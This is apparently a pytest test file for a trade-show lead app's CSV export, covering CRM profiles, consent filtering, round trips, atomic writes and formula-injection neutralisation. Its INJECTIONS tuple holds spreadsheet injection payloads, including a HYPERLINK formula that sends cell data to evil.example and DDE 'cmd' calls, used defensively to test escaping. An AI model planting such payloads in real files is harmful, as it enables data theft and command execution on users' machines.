"""CSV export: profiles, spreadsheet safety, RFC 4180 round trips, consent, atomic files."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import update

from showfloor.domain.errors import RefusedError
from showfloor.domain.questions import all_answer_keys
from showfloor.services.cell_safety import drop_unsafe
from showfloor.services.export import (
    ExportCancelledError,
    ExportFilter,
    default_file_name,
    export_leads,
    is_formula_like,
    neutralise_row,
)
from showfloor.services.export_profiles import (
    GENERIC_HEADERS,
    HUBSPOT_HEADERS,
    PLACEHOLDER,
    SALESFORCE_HEADERS,
)
from showfloor.store.database import Database
from showfloor.store.models import Lead

from helpers.builders import capture, make_event

T0 = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def export_text(db: Database, event_id: str, profile: str = "generic", **kwargs: object) -> str:
    buffer = io.StringIO(newline="")
    export_leads(db, event_id, buffer, profile, **kwargs)  # type: ignore[arg-type]
    return buffer.getvalue()


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def event(db: Database) -> str:
    """Priya (customer, two visits), Graham (mentor, no consent), Fatima (KOL)."""
    event_id = make_event(db, "Demo Expo 2026")
    capture(
        db, "customer", first_name="Priya", last_name="Raman", company="Northwind Labs",
        title="Head of Ops", email="priya@northwind.example", phone="+49 30 1234567",
        rating="warm", staff_name="Anna", consent=True, at=T0, tags=["pilot"],
        note="Wants a pilot in Q1.",
        answers={"pain_1": "manual data entry", "next_step": "demo", "timeline": "Q1"},
    )  # fmt: skip
    capture(
        db, "customer", email="priya@northwind.example", rating="hot", staff_name="Ben",
        at=T0 + timedelta(hours=5), note="Came back with IT.",
        answers={"next_step": "quote", "next_step_due": "2026-12-01",
                 "early_adopter": "needs_references"},
    )  # fmt: skip
    capture(
        db, "mentor", first_name="Graham", last_name="Bell", email="graham@acoustic.example",
        staff_name="Ben", at=T0 + timedelta(hours=1), consent=False,
        answers={"referral": "Eventful Agency, Lisbon"},
    )  # fmt: skip
    capture(
        db, "kol", full_name="Fatima Zahra", email="fatima@osf.example", rating="hot",
        staff_name="Chloé", consent=True, at=T0 + timedelta(hours=2),
        answers={"channels": "newsletter", "owner": "Chloé"},
    )  # fmt: skip
    return event_id


def test_generic_has_every_field_and_one_column_per_answer_key(db: Database, event: str) -> None:
    text = export_text(db, event)
    header = next(csv.reader(io.StringIO(text)))
    assert tuple(header) == GENERIC_HEADERS
    assert header[-len(all_answer_keys()) :] == list(all_answer_keys())
    rows = rows_of(text)
    assert [r["email"] for r in rows] == [
        "priya@northwind.example",
        "graham@acoustic.example",
        "fatima@osf.example",
    ]
    priya = rows[0]
    assert priya["event"] == "Demo Expo 2026"
    assert (priya["class"], priya["rating"], priya["visits"]) == ("customer", "hot", "2")
    assert priya["first_seen"] == "2026-11-22T09:00:00Z"
    assert priya["last_seen"] == "2026-11-22T14:00:00Z"
    assert priya["staff"] == "Anna; Ben"
    assert priya["notes"] == (
        "2026-11-22 09:00 UTC: Wants a pilot in Q1.\n2026-11-22 14:00 UTC: Came back with IT."
    )
    # the latest non-empty answer per key; an older one stays when nothing replaced it
    assert priya["next_step"] == "quote"
    assert priya["pain_1"] == "manual data entry"
    assert priya["next_step_due"] == "2026-12-01"
    assert priya["early_adopter"] == "needs_references"
    assert (priya["consent"], priya["consent_at"]) == ("yes", "2026-11-22T09:00:00Z")
    assert priya["consent_text_version"] == "1"
    assert priya["tags"] == "pilot"
    # typed as +49 30 1234567: stored in E.164, and safe by default (+ starts a formula)
    assert priya["phone"] == "'+49301234567"
    assert rows[1]["consent"] == "no" and rows[1]["consent_at"] == ""
    assert rows[1]["referral"] == "Eventful Agency, Lisbon"


def test_hubspot_headers_and_values(db: Database, event: str) -> None:
    text = export_text(db, event, "hubspot")
    assert tuple(next(csv.reader(io.StringIO(text)))) == HUBSPOT_HEADERS
    rows = rows_of(text)
    assert len(rows) == 2  # Graham did not agree to be contacted
    priya, fatima = rows
    assert priya["First Name"] == "Priya" and priya["Last Name"] == "Raman"
    assert priya["Phone Number"] == "+49301234567"  # raw by default: CRMs run no formulas
    assert priya["Company Name"] == "Northwind Labs" and priya["Job Title"] == "Head of Ops"
    assert (priya["Visitor Class"], priya["Rating"]) == ("Customer", "Hot")
    assert "Next step: quote (earlier: demo)" in priya["Note body"]
    assert "Early adopter: needs references" in priya["Note body"]
    assert priya["Activity date"] == priya["Last Seen"] == "2026-11-22"
    assert priya["Consent Date"] == "2026-11-22"
    assert priya["Legal basis for processing contact's data"] == "Freely given consent from contact"
    assert priya["Marketing contact status"] == "Marketing contact"
    assert priya["Lifecycle Stage"] == "lead"  # no status given: not yet a customer
    assert (fatima["First Name"], fatima["Last Name"]) == ("Fatima", "Zahra")
    assert fatima["Visitor Class"] == "Key opinion leader" and fatima["Lifecycle Stage"] == "other"
    everyone = ExportFilter(consented_only=False)
    everyone_rows = rows_of(export_text(db, event, "hubspot", filters=everyone))
    graham = next(r for r in everyone_rows if r["First Name"] == "Graham")
    assert graham["Marketing contact status"] == "Non-marketing contact"
    assert graham["Legal basis for processing contact's data"] == graham["Consent Date"] == ""


def test_salesforce_fills_required_columns(db: Database) -> None:
    event_id = make_event(db, "Fair")
    capture(db, "customer", email="j.doe@example.org", consent=True, rating="cold")
    capture(db, "mentor", first_name="Ada", consent=True, answers={"barriers": "no budget"})
    text = export_text(db, event_id, "salesforce", raw=True)
    assert tuple(next(csv.reader(io.StringIO(text)))) == SALESFORCE_HEADERS
    by_email, by_name = rows_of(text)
    # not "j.doe": the part before the @ is no name
    assert by_email["Last Name"] == PLACEHOLDER and by_email["Company"] == PLACEHOLDER
    assert by_email["Rating"] == "Cold" and by_email["Lead Source"] == "Trade Show"
    assert by_email["Campaign"] == "Fair" and by_email["Email Opt Out"] == "0"
    assert by_name["First Name"] == "Ada" and by_name["Last Name"] == PLACEHOLDER
    assert by_name["Rating"] == ""
    assert "Visitor class: Mentor\nBarriers to entry: no budget" in by_name["Description"]
    for row in (by_email, by_name):
        assert row["Last Name"] and row["Company"]


def test_salesforce_last_name_is_never_a_badge_id(db: Database) -> None:
    event_id = make_event(db)
    capture(db, "customer", badge="T7Q2-K9XP", consent=True)
    (row,) = rows_of(export_text(db, event_id, "salesforce"))
    assert row["Last Name"] == PLACEHOLDER and "T7Q2-K9XP" not in row["Last Name"]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_formula_payloads_are_neutralised_by_default_and_intact_raw(
    db: Database, payload: str
) -> None:
    event_id = make_event(db)
    capture(
        db, "customer", first_name=payload, last_name="X", company=payload, consent=True,
        note=payload, answers={"pain_1": payload},
    )  # fmt: skip
    for profile in ("generic", "hubspot", "salesforce"):
        # The spreadsheet is guarded by default, CRM files (no formulas there) raw.
        safe = rows_of(export_text(db, event_id, profile, raw=False))
        default_raw = None if profile != "generic" else True
        raw = rows_of(export_text(db, event_id, profile, raw=default_raw))
        company = {"generic": "company", "hubspot": "Company Name"}.get(profile, "Company")
        assert safe[0][company] == "'" + payload
        assert raw[0][company] == payload
        for row in safe:
            assert not any(is_formula_like(cell) for cell in row.values())


@pytest.mark.parametrize(
    "stored",
    ["\t=1+1", "\r=1+1", "   =1+1", "\u00a0=cmd", "\n@SUM(A1)", "＝1+1", "\tplain"],
)
def test_leading_blanks_and_control_characters_are_neutralised(
    db: Database, stored: str
) -> None:
    """Capture cleans such text, but merged or imported rows may still carry it."""
    event_id = make_event(db)
    result = capture(db, "mentor", first_name="Ada", email="ada@example.org")
    with db.session() as session:
        session.execute(update(Lead).where(Lead.id == result.lead.id).values(company=stored))
    (safe,) = rows_of(export_text(db, event_id))
    (raw,) = rows_of(export_text(db, event_id, raw=True))
    assert safe["company"] == "'" + stored
    assert raw["company"] == stored


def neutralise(cell: str) -> str:
    """The rule, one cell at a time, as the reference the row's fast path must match."""
    cell = drop_unsafe(cell)
    return "'" + cell if is_formula_like(cell) else cell


def test_neutralise_leaves_ordinary_text_alone() -> None:
    for text in ("Ada", "", "O'Brien", "a=b", "email@example.org", "2026-11-22", "1+1"):
        assert neutralise(text) == text
    assert neutralise("+49 30 1234") == "'+49 30 1234"


def test_round_trip_with_non_ascii_commas_quotes_and_newlines(
    db: Database, tmp_path: Path
) -> None:
    event_id = make_event(db)
    capture(
        db, "customer", first_name="Zoë", last_name="Ångström-Ñúñez",
        company='Weber & Söhne, "GmbH"', email="zoe@example.org",
        note='Said: "we need it, now";\nsecond line, with commas',
        answers={"pain_1": "漢字 and emoji 🎪"},
    )  # fmt: skip
    path = tmp_path / "leads.csv"
    summary = export_leads(db, event_id, path)
    assert summary.rows == 1 and summary.path == path
    data = path.read_bytes()
    assert data.count(b"\r\n") == 2 and not data.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert (row["first_name"], row["last_name"]) == ("Zoë", "Ångström-Ñúñez")
    assert row["company"] == 'Weber & Söhne, "GmbH"'
    assert row["notes"].endswith('Said: "we need it, now";\nsecond line, with commas')
    assert row["pain_1"] == "漢字 and emoji 🎪"


def test_bom_for_excel(db: Database, event: str, tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    export_leads(db, event, path, bom=True)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfid,event,")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        assert next(csv.reader(fh))[0] == "id"


def test_crm_profiles_leave_out_unconsented_unless_asked(db: Database, event: str) -> None:
    for profile in ("hubspot", "salesforce"):
        summary = export_leads(db, event, io.StringIO(newline=""), profile)
        assert (summary.rows, summary.skipped_unconsented) == (2, 1)
        everyone = ExportFilter(consented_only=False)
        summary = export_leads(db, event, io.StringIO(newline=""), profile, filters=everyone)
        assert (summary.rows, summary.skipped_unconsented) == (3, 0)
    generic = export_leads(db, event, io.StringIO(newline=""))
    assert (generic.rows, generic.skipped_unconsented) == (3, 0)
    only = export_leads(
        db, event, io.StringIO(newline=""), filters=ExportFilter(consented_only=True)
    )
    assert (only.rows, only.skipped_unconsented) == (2, 1)


@pytest.mark.parametrize(
    ("flt", "emails"),
    [
        (ExportFilter(visitor_class="customer"), ["priya@northwind.example"]),
        (ExportFilter(rating="hot"), ["priya@northwind.example", "fatima@osf.example"]),
        (ExportFilter(staff="ben"), ["priya@northwind.example", "graham@acoustic.example"]),
        (ExportFilter(staff="Chloé", rating="hot"), ["fatima@osf.example"]),
    ],
)
def test_filters(db: Database, event: str, flt: ExportFilter, emails: list[str]) -> None:
    assert [r["email"] for r in rows_of(export_text(db, event, filters=flt))] == emails


def test_unknown_filter_values_are_refused(db: Database, event: str) -> None:
    with pytest.raises(RefusedError, match="No staff member named 'Nobody'"):
        export_text(db, event, filters=ExportFilter(staff="Nobody"))
    with pytest.raises(RefusedError, match="Unknown visitor class"):
        export_text(db, event, filters=ExportFilter(visitor_class="vip"))
    with pytest.raises(RefusedError, match="Unknown export profile"):
        export_text(db, event, "excel")


def test_progress_reports_totals(db: Database, event: str) -> None:
    calls: list[tuple[int, int]] = []
    export_leads(db, event, io.StringIO(newline=""), progress=lambda d, t: calls.append((d, t)))
    assert calls[0] == (0, 3) and calls[-1] == (3, 3)


def test_cancelled_export_leaves_no_file(db: Database, event: str, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()

    def stop(done: int, total: int) -> None:
        raise ExportCancelledError("stop")

    with pytest.raises(ExportCancelledError):
        export_leads(db, event, out / "leads.csv", progress=stop)
    assert list(out.iterdir()) == []


def test_existing_file_is_replaced_only_on_success(
    db: Database, event: str, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    path = out / "leads.csv"
    path.write_text("old", encoding="utf-8")
    with pytest.raises(RefusedError):
        export_leads(db, event, path, filters=ExportFilter(staff="Nobody"))
    assert path.read_text(encoding="utf-8") == "old"
    assert [p.name for p in out.iterdir()] == ["leads.csv"]
    export_leads(db, event, path)
    assert path.read_text(encoding="utf-8").startswith("id,event,")


@pytest.mark.parametrize("where", ["missing/leads.csv", "."])
def test_unwritable_targets_are_refused_with_one_line(
    db: Database, event: str, tmp_path: Path, where: str
) -> None:
    with pytest.raises(RefusedError) as info:
        export_leads(db, event, tmp_path / where)
    assert "\n" not in str(info.value)


def test_default_file_name() -> None:
    day = datetime(2026, 11, 25).date()
    assert default_file_name("Demo Expo 2026", "hubspot", day) == (
        "demo-expo-2026-hubspot-2026-11-25.csv"
    )
    assert default_file_name("Messe Köln / Hall 4", "generic", day) == (
        "messe-koln-hall-4-generic-2026-11-25.csv"
    )
    assert default_file_name("展示会", "salesforce", day) == "event-salesforce-2026-11-25.csv"


@given(st.lists(st.text(alphabet="=+-@\t\r a1'\uff0b\u00a0", max_size=6), max_size=12))
def test_neutralise_row_guards_exactly_the_formula_like_cells(cells: list[str]) -> None:
    expected = [neutralise(c) for c in cells]
    row = list(cells)
    assert neutralise_row(row) == sum(1 for c in cells if is_formula_like(c))
    assert row == expected


@pytest.mark.parametrize(
    ("stored", "safe_cell", "raw_cell"),
    [
        ("\x00=1+1", "'=1+1", "=1+1"),  # LibreOffice skips the NUL and runs the rest
        ("\u202e=1+1", "'=1+1", "=1+1"),  # a bidi override before the formula
        ("\u2066\x01+1", "'+1", "+1"),
        ("﹦1+1", "'﹦1+1", "﹦1+1"),  # small equals sign
        ("﹢1", "'﹢1", "﹢1"),
        ("﹣1", "'﹣1", "﹣1"),
        ("−1+2", "'−1+2", "−1+2"),  # minus sign
        ("⁼1", "'⁼1", "⁼1"),  # superscript equals
        ("＠SUM(A1)", "'＠SUM(A1)", "＠SUM(A1)"),
        ("Ada\x00 Lovelace", "Ada Lovelace", "Ada Lovelace"),
    ],
)
def test_control_characters_go_before_the_formula_check_look_alikes_too(
    db: Database, stored: str, safe_cell: str, raw_cell: str
) -> None:
    """A merged or imported row may carry what capture never saves (issue 19)."""
    event_id = make_event(db)
    result = capture(db, "mentor", first_name="Ada", email="ada@example.org")
    with db.session() as session:
        session.execute(update(Lead).where(Lead.id == result.lead.id).values(company=stored))
    (safe,) = rows_of(export_text(db, event_id))
    (raw,) = rows_of(export_text(db, event_id, raw=True))
    assert safe["company"] == safe_cell
    assert raw["company"] == raw_cell
